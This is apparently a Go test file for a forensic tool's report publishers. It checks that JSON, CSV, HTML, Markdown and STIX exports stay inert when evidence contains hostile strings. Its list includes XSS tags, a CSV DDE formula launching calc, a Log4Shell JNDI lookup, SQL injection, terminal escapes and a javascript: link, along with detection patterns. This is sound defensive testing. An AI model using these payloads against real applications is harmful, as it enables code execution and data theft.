package builtin_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/html"

	"limier/acquire"
	"limier/builtin"
	"limier/casefile"
	"limier/evidence"
	"limier/finding"
	"limier/publish"
	"limier/scan"
	"limier/sigma"
	"limier/wire"
)

// example scans the example that ships.
func example(t *testing.T) *casefile.Case {
	t.Helper()
	src, closer, err := acquire.Open(t.Context(), "../examples/intrusion", acquire.Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer closer.Close()
	rules, _ := builtin.Rules()
	engine, _ := sigma.Compile(rules, sigma.Config{})
	c, err := casefile.Build(scan.Run(context.Background(), src, scan.Config{Parsers: builtin.Parsers(), Rules: engine, Languages: builtin.Languages(), Detectors: builtin.Detectors()}))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func published(t *testing.T, p *publish.Publisher, c *casefile.Case) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := p.Write(t.Context(), &b, c); err != nil {
		t.Fatalf("%s: %v", p.Name, err)
	}
	return b.Bytes()
}

// Every publisher gives the same bytes twice, and something.
func TestPublishersTwice(t *testing.T) {
	c := example(t)
	names := map[string]bool{}
	for _, p := range builtin.Publishers() {
		if names[p.Name] || p.Doc == "" || p.Extension == "" || p.MediaType == "" {
			t.Errorf("%q: incomplete, or twice", p.Name)
		}
		names[p.Name] = true
		one := published(t, p, c)
		if !bytes.Equal(one, published(t, p, c)) {
			t.Errorf("%s: not the same bytes twice", p.Name)
		}
		if !bytes.Contains(one, []byte("203.0.113.45")) {
			t.Errorf("%s: does not name the intruder's address", p.Name)
		}
	}
}

// hostileStrings are what evidence may hold to harm whoever reads an export.
var hostileStrings = []string{
	`<script>alert(1)</script><img src=x onerror=alert(1)>`, "\x1b]0;owned\x07\x1b[2J\x9b31m", `=cmd|'/c calc'!A1`, "@SUM(1+1)", "+1", "-1+1", "\t=1+1", "\r=1",
	"a\nb: injected\r\n\r\nc", "\xff\xfe\x80", "\u202etxt.exe", "`x` [l](javascript:alert(1)) ![i](http://h/p.png) | # h", "@everyone see http://h.example/ www.h.example", `' OR '1'='1`, `\'] OR [file:name='x`, "\x00",
	"{{7*7}} ${jndi:ldap://h/}", "]]>", "",
}

// hostileCase has a hostile string wherever evidence can put one.
func hostileCase(bad string) *casefile.Case {
	at := time.Date(2021, 3, 3, 4, 0, 0, 0, time.UTC)
	f := finding.Finding{
		ID: bad, Rule: "webshell" + bad, Title: bad, Reason: bad, Phase: finding.Backdoor, Outcome: finding.Succeeded, Level: finding.High, Confidence: finding.HighConfidence, Host: bad,
		Start: at, End: at, Techniques: []string{"T1505.003", bad}, CVEs: []string{bad}, Count: 1, References: []string{bad},
		Steps: []finding.Step{{Time: at, Rule: bad, Text: bad, Key: true, Raw: bad, Ref: evidence.Ref{Path: bad, Line: 1}}, {Text: bad, Raw: bad, Ref: evidence.Ref{Path: "a/C/" + bad}}},
	}
	for _, kind := range []finding.EntityType{finding.Address, finding.Account, finding.FilePath, finding.Hash, finding.Process, finding.UserAgent, finding.URL, finding.Domain, "other"} {
		for _, role := range []string{"", "shell", "attacker", bad} {
			for _, v := range []string{bad, "/owa/" + bad, "x/C/inetpub/" + bad, strings.Repeat("a", 64)} {
				f.Entities = append(f.Entities, finding.Entity{Type: kind, Value: v, Role: role})
			}
		}
	}
	return &casefile.Case{
		Start:     wire.Start{Format: wire.Format, Version: bad, Source: bad, Host: bad, Acquired: at},
		Exposures: []wire.Exposure{{Product: bad, Build: bad, Name: bad, Notes: []string{bad}, CVEs: []wire.CVEState{{ID: bad, State: wire.Vulnerable, Note: bad}}}},
		Findings:  []finding.Finding{f}, Gaps: []wire.Gap{{Ref: evidence.Ref{Path: bad}, Reason: bad, Count: 1}}, Complete: true,
		End: wire.End{Verdict: wire.Compromised, Confidence: finding.HighConfidence, Reason: bad, Coverage: []wire.Coverage{{Source: bad, First: at, Last: at}}, Next: []wire.NextStep{{Text: bad, Source: bad}}},
	}
}

// Whatever stands in the evidence, every export is well-formed and harms
// nobody who opens it.
func TestPublishersHostile(t *testing.T) {
	for _, bad := range hostileStrings {
		c := hostileCase(bad)
		for _, p := range builtin.Publishers() {
			b := published(t, p, c)
			if !bytes.Equal(b, published(t, p, hostileCase(bad))) {
				t.Errorf("%s, %q: not the same bytes twice", p.Name, bad)
			}
			if problem := harm(p, b); problem != "" {
				t.Errorf("%s, %q: %s", p.Name, bad, problem)
			}
		}
	}
}

// live is what Markdown would render as more than text.
var live = regexp.MustCompile("(^|[^\\\\`])(<script|<img|!\\[i\\]|\\]\\(javascript|@everyone see)")

// active names what in a page could run or load something.
func active(page []byte) string {
	in := html.NewTokenizer(bytes.NewReader(page))
	for {
		switch in.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			tag := in.Token()
			switch tag.Data {
			case "script", "iframe", "object", "embed", "img", "base", "form", "foreignobject":
				return "a tag: " + tag.String()
			}
			for _, a := range tag.Attr {
				link := a.Key == "href" || a.Key == "src" || a.Key == "xlink:href"
				if strings.HasPrefix(a.Key, "on") || link && !strings.HasPrefix(a.Val, "#") && !strings.HasPrefix(a.Val, "https://") {
					return "an attribute: " + tag.String()
				}
			}
		}
	}
}

// harm says what is wrong with an export.
func harm(p *publish.Publisher, b []byte) string {
	if !utf8.Valid(b) {
		return "not UTF-8"
	}
	for _, r := range string(b) {
		if r != '\n' && r != '\r' && (r < 0x20 || r >= 0x7f && r < 0xa0 || r == '\u202e') {
			return "a control character"
		}
	}
	kind, _, _ := strings.Cut(p.MediaType, ";")
	switch kind {
	case "application/json", "application/stix+json":
		if !json.Valid(b) {
			return "no JSON"
		}
		if bytes.Contains(b, []byte("<script")) {
			return "a tag"
		}
	case "application/jsonl", "application/x-ndjson":
		for line := range bytes.Lines(b) {
			if !json.Valid(line) || bytes.Contains(line, []byte("<script")) {
				return "no JSON, or a tag, in a line"
			}
		}
	case "text/html":
		return active(b)
	case "text/csv":
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			return err.Error()
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) || strings.ContainsAny(cell, "\n\r") {
					return "a formula or a line break in a cell: " + cell
				}
			}
		}
	case "text/markdown":
		for _, line := range strings.Split(string(b), "\n") {
			if !strings.Contains(line, "`") && live.MatchString(line) {
				return "live markup: " + line
			}
			if strings.HasPrefix(line, "b: injected") {
				return "a line of its own"
			}
		}
	}
	return ""
}
